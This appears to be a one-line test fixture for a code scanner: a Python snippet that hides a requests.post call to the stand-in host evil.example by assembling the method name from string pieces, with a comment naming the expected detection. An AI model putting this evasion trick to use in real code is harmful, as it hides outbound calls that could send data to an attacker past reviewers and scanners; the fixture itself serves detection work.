# expect: requests | getattr verb
import requests
getattr(requests, 'po' + 'st')('http://evil.example/')
